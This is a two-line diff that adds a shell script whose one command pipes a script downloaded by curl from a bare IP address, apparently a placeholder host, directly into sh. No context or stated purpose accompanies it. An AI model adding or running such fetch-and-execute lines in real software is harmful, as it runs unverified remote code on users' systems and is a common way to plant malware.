@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL http://198.51.100.23/install.sh | sh
